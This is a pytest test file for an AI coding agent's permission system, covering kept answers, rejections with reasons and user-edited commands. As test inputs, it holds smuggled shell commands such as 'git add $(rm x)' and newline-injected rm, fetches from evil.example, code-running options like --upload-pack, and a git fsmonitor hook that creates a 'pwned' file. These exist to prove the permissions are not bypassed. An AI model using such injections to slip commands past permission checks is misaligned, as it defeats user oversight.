"""Answers that last longer than a session, rejections with a reason, and commands that the user changes."""

import asyncio
import hashlib
import os
import subprocess
import sys
from collections.abc import AsyncGenerator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import crow_mcp_server
import msgspec
import pytest
from crow_core.acp.client import OPTION_NAMES
from crow_core.acp.schema import (
    ClientCapabilities,
    PermissionOption,
    RequestPermissionRequest,
    RequestPermissionResponse,
    SelectedOutcome,
)
from crow_core.acp.transports import Transport, memory_pair
from crow_core.agent.acp_agent import AcpAgent
from crow_core.app import Crow
from crow_core.mcp.server import Server
from crow_core.testing import Editor, Reply, ScriptedModel
from crow_core.testing.script import ScriptedCall as Use
from crow_permissions.extension import permissions
from crow_permissions.kept_answers import AnswerRule, KeptAnswer, KeptAnswers
from crow_permissions.lasting import find_subcommand
from crow_permissions.running import MARKS
from fastmcp import FastMCP

pytestmark = pytest.mark.anyio

Choice = tuple[str, dict[str, Any]]
"""The id of an option, and what the client adds in `_meta.crow`."""


def run(command: str, **more: Any) -> Use:
    return {"name": "terminal", "arguments": {"command": command, **more}}


def create(path: str) -> Use:
    return {"name": "file_editor", "arguments": {"command": "create", "path": path, "file_text": "new\n"}}


class Person(Editor):
    """An editor whose user chooses options by their ids."""

    def __init__(self, transport: Transport, choose: Callable[[RequestPermissionRequest], Choice]) -> None:
        super().__init__(transport)
        self.choose = choose

    async def on_permission(self, question: RequestPermissionRequest) -> RequestPermissionResponse:
        self.questions.append(question)
        id, own = self.choose(question)
        meta = {"crow": own} if own else None
        return RequestPermissionResponse(outcome=SelectedOutcome(option_id=id), meta=meta)

    def options(self, index: int = -1) -> list[PermissionOption]:
        return self.questions[index].options


class Machine:
    """A project, crow's data, and a new process of crow for each conversation."""

    def __init__(self, folder: Path) -> None:
        self.project, self.data = folder / "project", folder / "data"
        self.project.mkdir()
        self.data.mkdir()
        self.log: list[dict[str, Any]] = []
        self.results: list[str] = []
        self.kind = Person
        self.meta: dict[str, Any] | None = OPTION_NAMES
        """`_meta` of the client's capabilities."""

    @property
    def store(self) -> KeptAnswers:
        return KeptAnswers(self.data)

    @asynccontextmanager
    async def person(
        self, model: ScriptedModel, choose: Any, *servers: Server, **options: Any
    ) -> AsyncGenerator[Person]:
        tools = Server(
            "crow", crow_mcp_server.create_server, definitions=crow_mcp_server.tools(), built_in=True, shared=True
        )
        crow = Crow(model, servers=[tools, *servers]).use(permissions, answers=self.store, **options)
        self.crow = crow
        ours, theirs = memory_pair()
        agent = asyncio.ensure_future(AcpAgent(theirs, crow).serve())
        person = self.kind(ours, choose if callable(choose) else lambda question: (choose, {}))
        async with person.serving():
            await person.initialize("person", ClientCapabilities(meta=self.meta))
            yield person
        await agent
        await crow.shut_down()

    async def say(
        self, *uses: Use, choose: Any = "reject", cwd: Path | None = None, servers: Any = (), **options: Any
    ) -> Person:
        """Let a model of a new process make these calls, one in each turn."""
        model = ScriptedModel([reply for use in uses for reply in (Reply(tool_calls=[use]), Reply("Done."))])
        async with self.person(model, choose, *servers, **options) as person:
            session = await person.new_session(str(cwd or self.project))
            for _ in uses:
                await person.prompt(session.session_id, "go")
            (open_session,) = self.crow.sessions.values()
            self.log = [*open_session.log]
        self.results = [str(entry["content"]) for entry in self.log if entry.get("role") == "tool"]
        return person

    def decisions(self) -> list[dict[str, Any]]:
        return [notes for entry in self.log if (notes := entry.get("crow", {})).get("kind") == "decision"]


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(tmp_path)


def git(machine: Machine, *arguments: str) -> None:
    subprocess.run(["git", "-C", str(machine.project), *arguments], check=True)


def texts(options: list[PermissionOption]) -> list[str]:
    return [option.name for option in options]


@pytest.mark.posix("the commands are those of a POSIX shell")
async def test_question_shows_the_exact_rule_of_each_answer_that_lasts(machine: Machine):
    person = await machine.say(run("git commit -m 'one two'"), run("make -j2 | tail"), create("a.py"), create(".envrc"))
    commit, piped, edit, protected = (person.options(index) for index in range(4))
    assert texts(commit) == [
        "Allow",
        "Allow for this session: git commit -m 'one two'",
        "Allow in this folder: git commit -m 'one two'",
        "Allow in this folder: git commit …",
        "Always allow: git commit …",
        "Reject",
        "Reject for this session: git commit -m 'one two'",
    ]
    assert texts(piped) == [
        "Allow",
        "Allow for this session: make -j2 | tail",
        "Allow in this folder: make -j2 | tail",
        "Reject",
        "Reject for this session: make -j2 | tail",
        "Reject in this folder: make -j2 | tail",
    ]
    assert texts(edit) == [
        "Allow",
        "Allow for this session: changes to files here",
        f"Allow in this folder: changes to {machine.project / 'a.py'}",
        "Reject",
        "Reject for this session: changes to files here",
        f"Reject in this folder: changes to {machine.project / 'a.py'}",
    ]
    assert [
        name for name in texts(protected) if ":" in name and not name.endswith(f"changes to {machine.project}/.envrc")
    ] == []
    assert commit[3].meta == {
        "crow": {
            "answer": {
                "allows": True,
                "scope": "folder",
                "folder": str(machine.project),
                "rule": {"kind": "subcommand", "tool": "terminal", "value": "git commit"},
                "text": "git commit …",
            }
        }
    }
    assert machine.store.list_all() == []


async def test_answer_for_the_folder_holds_there_in_later_sessions_and_nowhere_else(machine: Machine):
    other = machine.data.with_name("other")
    other.mkdir()
    await machine.say(run("echo x >> out"), choose="allow-folder")
    (machine.project.with_name("link")).symlink_to(machine.project)
    again = await machine.say(run("echo x >> out"), run("echo y >> out"), cwd=machine.project.with_name("link"))
    elsewhere = await machine.say(run("echo x >> out"), cwd=other)
    assert [question.tool_call.raw_input for question in again.questions] == [{"command": "echo y >> out"}]
    assert len(elsewhere.questions) == 1
    assert (machine.project / "out").read_text() == "x\nx\n"
    assert oct((machine.data / "answers.json").stat().st_mode)[-3:] == "600"
    assert os.listdir(machine.project) == ["out"]


async def test_below_another_crow_a_client_gives_no_permission_that_lasts(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv(MARKS[0], "1")
    await machine.say(run("echo x >> out"), choose="allow-folder")
    assert (machine.project / "out").read_text() == "x\n"
    assert machine.store.list_all() == []


@pytest.mark.posix("the commands are those of a POSIX shell")
async def test_answer_for_a_subcommand_covers_its_arguments_and_no_other_command(machine: Machine):
    git(machine, "init", "-q")
    await machine.say(run("git add ."), choose="allow-always")
    asked = [
        "git add . && rm x",
        "git add $(rm x)",
        "git -C . add .",
        "git add . > x",
        'git add "$x"',
        "git add *",
        "sudo git add .",
        "git push",
        "git  add; ls",
        "/tmp/git add .",
        "GIT_DIR=/x git add .",
        "git add .\nrm x",
        "git add . & rm x",
        "git add {a,b}",
        "git add ~/x",
        "git add !x",
        "git add --edi",
    ]
    allowed = ["git add x", "git add 'a b'", 'git add "a b" c', "git  add   -A"]
    person = await machine.say(*map(run, [*allowed, *asked]))
    assert [question.tool_call.raw_input["command"] for question in person.questions] == asked


@pytest.mark.parametrize(
    ("kept", "allowed", "asked"),
    [
        (
            "git fetch",
            "--quiet",
            ["{} https://evil.example/x.git", "{} ext::x", "{} ./x", "{} --upload-pack=x", "{} --server-option x /x"],
        ),
        (
            "npm install",
            "--dry-run --offline",
            [
                "{} ./x",
                "{} https://evil.example/x.tgz",
                "{} --proxy=http://x",
                "{} --globalconfig=x",
                "{} --script-shell=x",
            ],
        ),
        (
            "npm test",
            "--if-present",
            ["{} --globalconfig=x", "{} --userconfig x", "{} --prefix=x", "{} --script-shell ./x"],
        ),
        (
            "uv tree",
            "--offline",
            ["{} --python ./x", "{} -p ./x", "{} --project /x", "{} --index-url=http://x", "{} --config-file x"],
        ),
    ],
)
async def test_answer_for_a_subcommand_covers_no_folder_address_or_setting(
    machine: Machine, kept: str, allowed: str, asked: list[str]
):
    machine.store.add(KeptAnswer(True, AnswerRule("subcommand", "terminal", kept), "always"))
    commands = [form.format(kept) for form in asked]
    person = await machine.say(*map(run, [f"{kept} {allowed}", *commands]))
    assert [question.tool_call.raw_input["command"] for question in person.questions] == commands


@pytest.mark.parametrize(
    "command",
    [
        "python -c 'print(1)'",
        "bash -c ls",
        "sudo git commit",
        "env git commit",
        "git push origin main",
        "git bisect run x",
        "npm run x",
        "npm exec x",
        "uv run x",
        "docker run x",
        "docker exec a b",
        "cargo run",
        "git log --output=x",
        "git log --out x",
        "git reflog expire --expire=now",
        "git branch -M x",
        "git switch -C x",
        "git switch --force-c x",
        "git fetch --upload-pack=x",
        "git fetch --upl x",
        "git grep -O x",
        "git",
        'git commit -m "$(x)"',
        "git commit -m 'a' | cat",
        "git commit -m it\\'s",
        "git commit -m 'open",
        "git\ncommit",
        "git commit #",
        "kubectl exec a",
        "gh api x",
        "pytest x",
    ],
)
def test_no_answer_covers_any_arguments_of_a_command_that_may_run_anything(command: str):
    assert find_subcommand(command) == ""


async def test_deny_and_ask_rules_beat_an_answer_that_allows(machine: Machine):
    await machine.say(run("git commit -m x"), choose="allow-always")
    denied = await machine.say(run("git commit -m y"), deny=["terminal:git commit*"])
    asked = await machine.say(run("git commit -m y"), ask=["terminal:git commit*"])
    assert (len(denied.questions), len(asked.questions)) == (0, 1)
    assert texts(asked.options()) == ["Allow", "Reject"]


async def test_rejection_that_lasts_denies_in_every_mode_and_beats_what_allows(machine: Machine):
    await machine.say(run("touch x"), choose="reject-always")
    for mode in ("ask", "accept-edits", "yolo"):
        person = await machine.say(run("touch x"), mode=mode, allow=["terminal:touch *"])
        assert person.questions == []
        assert machine.results[0].startswith("This was not run: the user answered so in all folders.")
    assert not (machine.project / "x").exists()


async def test_plan_mode_is_not_loosened(machine: Machine):
    machine.store.add(KeptAnswer(True, AnswerRule("command", "terminal", "touch x"), "always"))
    machine.store.add(KeptAnswer(True, AnswerRule("host", "fetch", "127.0.0.1:9"), "always"))
    fetch: Use = {"name": "fetch", "arguments": {"url": "http://127.0.0.1:9/"}}
    person = await machine.say(run("touch x"), fetch, mode="plan")
    assert "plan mode" in machine.results[0]
    assert len(person.questions) == 1


async def test_answer_about_a_protected_file_covers_that_file_alone(machine: Machine):
    await machine.say(create(".envrc"), choose="allow-folder", mode="accept-edits")
    (machine.project / ".envrc").unlink()
    (machine.project / "sub").mkdir()
    person = await machine.say(create(".envrc"), create("sub/.envrc"), create(".env"), mode="accept-edits")
    assert [question.tool_call.raw_input["path"] for question in person.questions] == ["sub/.envrc", ".env"]


async def test_answer_for_all_edits_of_a_session_does_not_cover_a_protected_file(machine: Machine):
    ids = iter(["allow-session", "reject"])
    person = await machine.say(create("a"), create(".envrc"), choose=lambda question: (next(ids), {}))
    assert len(person.questions) == 2


async def test_answer_about_crows_own_files_cannot_last(machine: Machine):
    person = await machine.say(create(str(machine.data / "x")), own=[str(machine.data)])
    assert texts(person.options()) == ["Allow", "Reject"]


async def test_answer_about_a_tool_ends_when_its_definition_changes(machine: Machine):
    def demo(about: str) -> list[Server]:
        server = FastMCP("demo")
        server.tool(lambda: "done", name="act", description=about)
        return [Server("demo", lambda: server, shared=True)]

    act: Use = {"name": "demo_act", "arguments": {}}
    await machine.say(act, choose="allow-always", servers=demo("Act."))
    same = await machine.say(act, servers=demo("Act."))
    changed = await machine.say(act, servers=demo("Act on all."))
    assert (len(same.questions), len(changed.questions)) == (0, 1)


async def test_tool_that_destroys_and_input_for_a_terminal_are_asked_about_each_time(machine: Machine):
    server = FastMCP("demo")
    server.tool(lambda: "done", name="wipe", annotations={"destructiveHint": True})
    demo = Server("demo", lambda: server, shared=True)
    wipe: Use = {"name": "demo_wipe", "arguments": {}}
    person = await machine.say(wipe, run("cat", session="s"), servers=[demo])
    assert [texts(question.options) for question in person.questions] == [["Allow", "Reject"]] * 2


async def test_kept_answer_runs_the_folders_code_after_edits_only_with_a_question(machine: Machine):
    machine.store.add(KeptAnswer(True, AnswerRule("command", "terminal", "make --version"), "always"))
    person = await machine.say(
        create("a.py"), run("make --version"), run("make --version"), choose="allow", mode="accept-edits"
    )
    assert len(person.questions) == 1


@pytest.mark.posix("the commands are those of a POSIX shell")
async def test_kept_answer_runs_git_without_the_folders_programs(machine: Machine):
    git(machine, "init", "-q")
    script = machine.project / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {machine.project}/pwned\n")
    script.chmod(0o755)
    git(machine, "config", "core.fsmonitor", str(script))
    machine.store.add(KeptAnswer(True, AnswerRule("subcommand", "terminal", "git status"), "always"))
    person = await machine.say(run("git status --short"))
    assert person.questions == []
    assert not (machine.project / "pwned").exists()


async def test_running_session_sees_an_answer_that_another_process_adds_or_revokes(machine: Machine):
    use = run("echo x >> out")
    model = ScriptedModel([reply for _ in range(3) for reply in (Reply(tool_calls=[use]), Reply("Done."))])
    add = (
        "import sys; from pathlib import Path\n"
        "from crow_permissions.kept_answers import *\n"
        "store = KeptAnswers(Path(sys.argv[1]))\n"
        "answer = KeptAnswer(True, AnswerRule('command', 'terminal', 'echo x >> out'), 'always')\n"
        "store.add(answer) if sys.argv[2] == 'add' else store.remove([answer.id])"
    )
    async with machine.person(model, "reject") as person:
        session = await person.new_session(str(machine.project))
        counts: list[int] = []
        for what in ("", "add", "remove"):
            if what:
                await asyncio.to_thread(subprocess.run, [sys.executable, "-c", add, machine.data, what], check=True)
            await person.prompt(session.session_id, "go")
            counts.append(len(person.questions))
    assert counts == [1, 1, 2]


def test_two_processes_that_write_at_once_lose_no_answer(tmp_path: Path):
    write = (
        "import sys; from pathlib import Path\n"
        "from crow_permissions.kept_answers import *\n"
        "store = KeptAnswers(Path(sys.argv[1]))\n"
        "for n in range(40):\n"
        "    rule = AnswerRule('command', 'terminal', f'{sys.argv[2]} {n}')\n"
        "    store.add(KeptAnswer(True, rule, 'always'))"
    )
    running = [subprocess.Popen([sys.executable, "-c", write, str(tmp_path), name]) for name in ("a", "b")]
    assert [each.wait() for each in running] == [0, 0]
    assert len(KeptAnswers(tmp_path).list_all()) == 80
    assert sorted(os.listdir(tmp_path)) == ["answers.json", "answers.lock"]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"[]",
        b"\xff\xfe",
        b'{"version": 2, "answers": []}',
        b'{"answers": [{"allows": true}]}',
        b'{"answers": [{"allows": true, "rule": {"kind": "any", "tool": "*", "value": "*"}, "scope": "always"}]}',
        b'{"answers": [{"allows": true, "rule": {"kind": "command", "tool": "terminal", "value": "test 1"}}]}',
        b'{"answers": [{"allows": true, "rule": {"kind": "command", "tool": "terminal", "value": "test 1"}, '
        b'"scope": "folder"}]}',
        b"[" * 100_000,
    ],
)
async def test_damaged_file_allows_nothing_is_not_overwritten_and_is_said_once(machine: Machine, content: bytes):
    file = machine.data / "answers.json"
    file.write_bytes(content)
    file.chmod(0o600)
    person = await machine.say(run("test 1"), run("test 1"), choose="allow-always")
    notices = person.thoughts
    assert len(person.questions) == 1  # the answer holds for the session
    assert notices.count("No kept answer is used") == 2  # and is said not to hold longer
    assert file.read_bytes() == content


@pytest.mark.posix("files have no modes there")
async def test_file_that_others_may_write_allows_nothing(machine: Machine):
    machine.store.add(KeptAnswer(True, AnswerRule("command", "terminal", "test 1"), "always"))
    (machine.data / "answers.json").chmod(0o666)
    person = await machine.say(run("test 1"))
    assert len(person.questions) == 1


@pytest.mark.posix("the commands are those of a POSIX shell")
async def test_decision_names_the_kept_rule_and_its_scope(machine: Machine):
    await machine.say(run("git add x"), choose="allow-folder-subcommand")
    first = machine.decisions()
    await machine.say(run("git add y"))
    (second,) = machine.decisions()
    assert [(note["by"], note["scope"]) for note in first] == [("the user", f"folder {machine.project}: git add …")]
    assert second["by"] == f"the user answered so in {machine.project}"
    assert second["scope"] == f"folder {machine.project}: git add …"


@pytest.mark.parametrize("meta", [None, {}, {"crow": {}}, {"crow": {"optionNames": "yes"}}, {"crow": []}])
@pytest.mark.parametrize("use", [run("git commit -m first"), run("make check"), create("a.txt")])
async def test_client_that_may_show_one_button_of_each_kind_is_offered_the_narrowest(
    machine: Machine, use: Use, meta: Any
):
    machine.meta = meta
    person = await machine.say(use, choose="reject")
    assert [(option.option_id, option.kind) for option in person.options()] == [
        ("allow", "allow_once"),
        ("allow-session", "allow_always"),
        ("reject", "reject_once"),
        ("reject-session", "reject_always"),
    ]


async def test_option_that_was_not_offered_allows_nothing(machine: Machine):
    machine.meta = None
    await machine.say(run("git commit -m first"), choose="allow-always")
    assert machine.results[0].startswith("This was not run")
    assert machine.store.list_all() == []


@pytest.mark.posix("the commands are those of a POSIX shell")
@pytest.mark.parametrize("command", [["touch", "b"], 5, True, {"a": 1}, "", " \n", "x" * 100_001])
async def test_answer_with_a_command_that_cannot_run_runs_nothing(machine: Machine, command: Any):
    await machine.say(run("touch a"), choose=lambda question: ("allow", {"command": command}))
    assert os.listdir(machine.project) == []
    assert "the command in the client's answer is" in machine.results[0]
    assert [note["is"] for note in machine.decisions()] == ["deny"]


async def test_client_learns_that_it_may_give_a_reason_and_change_the_command(machine: Machine):
    async with machine.person(ScriptedModel([]), "reject") as person:
        announced = await person.initialize("person", ClientCapabilities())
    assert announced.agent_capabilities.meta["crow"]["permissionAnswers"] == ["reason", "command"]


async def test_reason_of_a_rejection_reaches_the_model_and_the_log(machine: Machine):
    reason = "use \x1b[31muv\u202e\nplease " + "x" * 5_000
    await machine.say(run("pip install x"), choose=lambda question: ("reject", {"reason": reason}))
    (result,), (decision,) = machine.results, machine.decisions()
    assert result.startswith("This was not run: the user rejected it: use  [31muv\nplease xxx")
    assert "ask." not in result
    assert 1_900 < len(result) < 2_100
    assert decision["is"] == "deny"
    assert decision["by"].startswith("the user rejected it: use  [31muv")


async def test_client_may_give_the_reason_with_the_outcome_too(machine: Machine):
    class Other(Person):
        async def on_permission(self, question: RequestPermissionRequest) -> RequestPermissionResponse:
            meta = {"crow": {"reason": "not now"}}
            return RequestPermissionResponse(outcome=SelectedOutcome(option_id="reject", meta=meta))

    machine.kind = Other
    await machine.say(run("test 1"))
    assert machine.results == ["This was not run: the user rejected it: not now."]


@pytest.mark.parametrize("own", [{}, {"reason": 5}, {"reason": ""}, {"reason": " \n"}, {"command": None}, {"x": []}])
async def test_answer_without_a_usable_reason_is_an_ordinary_rejection(machine: Machine, own: dict[str, Any]):
    await machine.say(run("test 1"), choose=lambda question: ("reject", own))
    assert machine.results == [
        "This was not run: the user rejected it. Do not try to reach the same by another way; ask."
    ]


@pytest.mark.posix("the commands are those of a POSIX shell")
async def test_command_that_the_user_changes_runs_in_place_of_the_models(machine: Machine):
    def choose(question: RequestPermissionRequest) -> Choice:
        return "allow", {"command": "echo mended > out"}

    person = await machine.say(run("echo wrong > out"), choose=choose)
    assert (machine.project / "out").read_text() == "mended\n"
    assert machine.results[0].startswith("The user changed the command. It was: echo mended > out")
    (decision,) = machine.decisions()
    assert decision["by"] == "the user, who changed the command to: echo mended > out"
    ran = msgspec.json.encode({"command": "echo mended > out"})
    assert decision["arguments"] == hashlib.sha256(ran).hexdigest()
    (answer,) = (entry for entry in machine.log if entry.get("role") == "tool")
    assert answer["crow"]["shown"]["arguments"] == {"command": "echo mended > out"}
    shown = [
        update for update in person.updates if getattr(update, "raw_input", None) == {"command": "echo mended > out"}
    ]
    assert shown[-1].title == "echo mended > out"
    (asking,) = (entry for entry in machine.log if entry.get("tool_calls"))
    assert "wrong" in asking["tool_calls"][0]["function"]["arguments"]


@pytest.mark.posix("the commands are those of a POSIX shell")
@pytest.mark.parametrize("answer", ["allow", "allow-session", "allow-folder"])
async def test_changed_command_is_judged_anew_and_no_answer_is_kept_for_it(machine: Machine, answer: str):
    changes = iter([{"command": "touch denied"}, {"command": "touch asked"}, {"command": "touch denied"}])
    person = await machine.say(
        *[run("touch a")] * 3,
        choose=lambda question: (answer, next(changes)),
        deny=["terminal:touch denied"],
        ask=["terminal:touch asked"],
    )
    assert os.listdir(machine.project) == ["asked"]
    assert len(person.questions) == 3
    assert "the rule 'terminal:touch denied' says deny" in machine.results[0]
    assert [note["is"] for note in machine.decisions()] == ["deny", "allow", "deny"]
    assert machine.store.list_all() == []


async def test_changed_command_counts_only_with_an_answer_that_allows_and_for_a_command(machine: Machine):
    await machine.say(run("touch a"), choose=lambda question: ("reject", {"command": "touch b", "reason": "no"}))
    await machine.say(create("c"), choose=lambda question: ("allow", {"command": "view"}))
    assert os.listdir(machine.project) == ["c"]
